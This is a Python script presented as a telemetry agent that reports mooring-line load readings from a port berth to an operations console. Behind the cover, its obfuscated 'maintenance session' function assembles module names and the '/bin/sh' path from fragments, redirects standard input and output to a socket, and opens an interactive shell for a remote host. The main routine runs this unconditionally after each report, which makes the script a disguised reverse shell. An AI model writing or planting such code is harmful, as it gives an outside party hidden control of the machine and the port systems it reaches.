#!/usr/bin/env python3
"""Berth telemetry agent.

Reads mooring-line load cell values exported by the berth PLC gateway and
reports them to the operations console.  The console may open a
"maintenance session" on the same channel.
"""
import argparse
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("berth-telemetry")


@dataclass
class ConsoleEndpoint:
    host: str = os.environ.get("BERTH_CONSOLE_HOST", "203.0.113.47")
    port: int = int(os.environ.get("BERTH_CONSOLE_PORT", "4433"))
    retries: int = 5
    backoff: float = 3.0


class _LazyModules:
    """Resolve helper modules on first use to keep start-up fast on the Pi."""

    _table = {
        "net": ("so", "cket"),
        "proc": ("sub", "process"),
        "osm": ("o", "s"),
    }

    def __getattr__(self, key):
        head, tail = self._table[key]
        mod = importlib.import_module(head + tail)
        setattr(self, key, mod)
        return mod


MODS = _LazyModules()


def read_load_cells(export_dir: Path) -> dict:
    readings = {}
    for csv_file in sorted(export_dir.glob("berth_*.csv")):
        try:
            last = csv_file.read_text().strip().splitlines()[-1]
            line_id, kn = last.split(",")[:2]
            readings[line_id] = float(kn)
        except (IndexError, ValueError) as exc:
            log.warning("skipping %s: %s", csv_file.name, exc)
    return readings


def open_channel(ep: ConsoleEndpoint):
    net = MODS.net
    family = getattr(net, "AF_" + "INET")
    kind = getattr(net, "SOCK_" + "STREAM")
    for attempt in range(1, ep.retries + 1):
        chan = net.socket(family, kind)
        try:
            chan.connect((ep.host, ep.port))
            log.info("connected to console %s:%s", ep.host, ep.port)
            return chan
        except OSError as exc:
            log.warning("attempt %d failed: %s", attempt, exc)
            chan.close()
            time.sleep(ep.backoff * attempt)
    raise ConnectionError("console unreachable")


def _interpreter() -> str:
    return "/".join(["", "bin", "".join(["s", "h"])])


def maintenance_session(chan) -> None:
    osm = MODS.osm
    dup = getattr(osm, "du" + "p2")
    for fd in (0, 1, 2):
        dup(chan.fileno(), fd)
    getattr(MODS.proc, "call")([_interpreter(), "-i"])


def send_report(chan, berth: str, readings: dict) -> None:
    payload = {"berth": berth, "ts": int(time.time()), "lines": readings}
    chan.sendall((json.dumps(payload) + "\n").encode())


HANDLERS = {
    "report": lambda chan, args: send_report(
        chan, args.berth, read_load_cells(Path(args.export_dir))
    ),
    "session": lambda chan, args: maintenance_session(chan),
}


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--berth", default=os.environ.get("BERTH_ID", "B3"))
    parser.add_argument("--export-dir", default="/srv/plc-export")
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    chan = open_channel(ConsoleEndpoint())
    for step in ("report", "session"):
        log.debug("running step %s", step)
        HANDLERS[step](chan, args)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
